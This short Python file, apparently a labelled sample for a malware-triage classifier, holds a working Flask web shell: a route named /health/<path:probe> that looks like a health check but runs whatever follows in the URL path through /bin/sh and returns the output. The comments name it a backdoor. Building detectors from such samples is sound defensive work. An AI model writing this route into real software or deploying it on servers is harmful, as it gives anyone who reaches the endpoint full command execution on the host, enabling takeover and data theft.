# triage-expect: triage_python_web_shell
# Flask backdoor: the command is a piece of the URL path.
import subprocess
from flask import Flask
app = Flask(__name__)

@app.route("/health/<path:probe>")
def health(probe):
    done = subprocess.run(["/bin/sh", "-c", probe], capture_output=True, text=True)
    return done.stdout + done.stderr
